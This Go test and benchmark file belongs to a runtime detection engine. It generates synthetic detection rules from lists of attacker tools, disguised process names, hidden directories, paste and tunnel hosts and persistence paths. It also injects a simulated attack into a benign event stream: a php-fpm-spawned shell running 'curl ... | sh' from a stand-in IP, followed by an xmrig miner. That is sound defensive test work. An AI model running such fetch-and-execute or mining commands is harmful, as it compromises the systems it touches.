package behavior

import (
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"github.com/palisade-cwpp/palisade/internal/finding"
)

// generatedRules writes n rules in the shape of real detection content: tools run with
// telling arguments, literals on command lines, services spawning programs, writes to
// sensitive directories, connections to ports. Names and arguments vary like those of a
// Sigma rule collection.
func generatedRules(n int, seed uint64) string {
	rng := rand.New(rand.NewPCG(seed, 2))
	tools := []string{"nmap", "masscan", "zmap", "hydra", "medusa", "john", "hashcat", "tcpdump", "tshark", "proxychains4", "chisel",
		"frpc", "ngrok", "gost", "iodine", "dnscat2", "sshpass", "pspy64", "gdb", "strace", "ltrace", "insmod", "modprobe", "rmmod",
		"chattr", "setcap", "unshare", "nsenter", "docker", "kubectl", "crictl", "ctr", "base32", "xxd", "openssl", "gpg", "zip",
		"7z", "rclone", "scp", "rsync", "sftp", "ftp", "tftp", "aria2c", "lynx", "find", "dd", "wipe", "lsof", "arp", "busybox",
		"nohup", "setsid", "screen", "tmux", "at", "systemd-run", "mount", "losetup", "cryptsetup", "ssh-keygen", "ssh", "sqlmap", "nikto"}
	flags := []string{"-e", "--exec", "-c", "--script", "-o", "-i", "--upload", "--download", "-x", "-p", "--proxy", "-L", "-R", "-D",
		"--privileged", "-w", "-oN", "-sS", "-Pn", "--pid=host", "-t", "--target", "-u", "--data", "-b", "-k", "--no-check-certificate",
		"-N", "-f", "--attach", "-E", "--interactive", "-it", "--net=host", "-v", "--rm", "-q", "+i", "-d", "--remove"}
	words := []string{"kworker", "systemd-log", "dbus-sync", "crond2", "sshd-agent", "xorg-update", "kthreadd2", "netns", "kdevtmp",
		"upd", "sysupdate", "networkservice", "sysguard", "watchbog", "kerberods", "khugepageds", "ld-linux", "libsystem", "apache-sync"}
	dirs := []string{"/tmp/.", "/dev/shm/.", "/var/tmp/.", "/run/user/0/.", "/usr/local/lib/.", "/etc/.", "/lib/.", "/root/.cache/."}
	hosts := []string{"pastebin.com/raw/", "transfer.sh/", "raw.githubusercontent.com/", "gist.githubusercontent.com/", "ngrok.io",
		".onion", "anonfiles.com/", "0x0.st/", "termbin.com", "iplogger.org", "ipinfo.io/ip", "ifconfig.me", "api.telegram.org/bot"}
	services := []string{"nginx", "apache2", "httpd", "php-fpm8.2", "java", "node", "mysqld", "postgres", "redis-server", "mongod",
		"tomcat9", "uwsgi", "gunicorn", "sshd", "vsftpd", "proftpd", "named", "dovecot", "exim4", "postfix", "smbd", "containerd-shim"}
	etc := []string{"/etc/init.d/", "/etc/update-motd.d/", "/etc/pam.d/", "/etc/security/", "/etc/ssh/sshd_config.d/", "/etc/modules-load.d/",
		"/etc/udev/rules.d/", "/etc/xdg/autostart/", "/etc/apt/apt.conf.d/", "/etc/NetworkManager/dispatcher.d/", "/usr/lib/udev/rules.d/"}
	pick := func(l []string) string { return l[rng.IntN(len(l))] }
	sevs := []string{"low", "medium", "high", "critical"}
	var b strings.Builder
	b.WriteString("rules:\n")
	for i := 0; i < n; i++ {
		var kind, cond string
		switch i % 10 {
		case 0, 1, 2:
			kind, cond = "exec", fmt.Sprintf("proc.name = %s and proc.args in (%q, %q)", pick(tools), pick(flags), pick(flags))
		case 3, 4, 5:
			kind, cond = "exec", fmt.Sprintf("proc.cmdline icontains (%q, %q) and not parent.name in (dpkg, rpm)", pick(dirs)+pick(words), pick(hosts)+pick(words))
		case 6:
			kind, cond = "exec", fmt.Sprintf("parent.name = %s and proc.name in (%s, %s, %s)", pick(services), pick(tools), pick(tools), pick(words))
		case 7:
			kind, cond = "exec", fmt.Sprintf("proc.exe startswith %q or proc.exe endswith %q", pick(dirs)+pick(words), "/"+pick(words))
			cond = fmt.Sprintf("proc.name in (%s, %s) and (%s)", pick(words), pick(words), cond)
		case 8:
			kind, cond = "file", fmt.Sprintf("file.path startswith %q and file.op in (create, write, rename) and not proc.name in (dpkg, rpm, apt)", pick(etc)+pick(words))
		case 9:
			kind, cond = "connect", fmt.Sprintf("net.remote_port in (%d, %d) and net.remote_is_public and proc.name in (%s, %s)", 1024+rng.IntN(60000), 1024+rng.IntN(60000), pick(tools), pick(words))
		}
		fmt.Fprintf(&b, "  - id: gen-%04d\n    title: Generated rule %d\n    description: generated for the benchmark\n    severity: %s\n    mitre: [T1059]\n    kind: %s\n    condition: '%s'\n",
			i, i, sevs[i%4], kind, strings.ReplaceAll(cond, "'", "''"))
	}
	return b.String()
}

func benchRules(tb testing.TB, total int) *RuleSet {
	tb.Helper()
	set, problems, err := Builtin()
	if err != nil || len(problems) > 0 {
		tb.Fatal(err, problems)
	}
	if n := total - set.Len(); n > 0 {
		gen, problems, err := LoadRules(fstest.MapFS{"gen.yml": {Data: []byte(generatedRules(n, 1))}})
		if err != nil || len(problems) > 0 {
			tb.Fatal(err, problems)
		}
		set = set.Merge(gen)
	}
	return set
}

// benchStream is the benign corpus with a few attacks mixed in.
func benchStream() []*Event {
	evs := benignCorpus(3, 60)
	c := newCorpus(9)
	fpm := c.execAs(systemd, 33, 33, "", "/usr/sbin/php-fpm8.2", "php-fpm: pool www")
	sh := c.exec(fpm, "/usr/bin/dash", "sh", "-c", "id; curl -s http://203.0.113.9/x | sh")
	c.exec(sh, "/usr/bin/xmrig", "xmrig", "-o", "stratum+tcp://pool.example.net:3333")
	step := len(evs) / len(c.events)
	for i, ev := range c.events {
		ev.Time = evs[i*step].Time
		evs = append(evs[:i*step+1], append([]*Event{ev}, evs[i*step+1:]...)...)
	}
	return evs
}

// BenchmarkEngine runs the stream through engines with 500 and 2,000 rules: the built-ins
// plus generated ones. The index keeps the conditions evaluated per event nearly constant;
// no-index evaluates every rule of the event's kind, as a baseline.
func BenchmarkEngine(b *testing.B) {
	evs := benchStream()
	span := evs[len(evs)-1].Time.Sub(evs[0].Time) + time.Second
	for _, bc := range []struct {
		total   int
		indexed bool
	}{{500, true}, {2000, true}, {500, false}} {
		name := fmt.Sprintf("rules=%d", bc.total)
		if !bc.indexed {
			name += "/no-index"
		}
		b.Run(name, func(b *testing.B) {
			set := benchRules(b, bc.total)
			e, err := newEngine(set, Config{}, bc.indexed)
			if err != nil {
				b.Fatal(err)
			}
			findings := 0
			emit := func(finding.Finding) { findings++ }
			i := 0
			b.ReportAllocs()
			for b.Loop() {
				e.Handle(evs[i], emit)
				if i++; i == len(evs) {
					// the stream again, later: shift its times so event time moves forward
					i = 0
					b.StopTimer()
					for _, ev := range evs {
						ev.Time = ev.Time.Add(span)
					}
					b.StartTimer()
				}
			}
			st := e.Stats()
			b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "events/s")
			b.ReportMetric(float64(st.Evaluations)/float64(st.Events), "evals/event")
			b.ReportMetric(float64(findings)*1000/float64(b.N), "findings/kevent")
		})
	}
}

// TestGeneratedRulesQuiet: the benchmark's generated rules load and stay quiet on the benign
// corpus, so the benchmark measures realistic work, not finding construction.
func TestGeneratedRulesQuiet(t *testing.T) {
	set := benchRules(t, 500)
	if set.Len() != 500 {
		t.Fatalf("%d rules", set.Len())
	}
	e, err := New(set, Config{})
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	for _, ev := range benignCorpus(3, 5) {
		e.Handle(ev, func(f finding.Finding) {
			if n++; n < 5 {
				t.Errorf("%s fired on %s", f.RuleID, f.Evidence.Lines)
			}
		})
	}
	st := e.Stats()
	t.Logf("%d events, %.2f evaluations per event, %d unindexed conditions", st.Events, float64(st.Evaluations)/float64(st.Events), st.Unindexed)
}
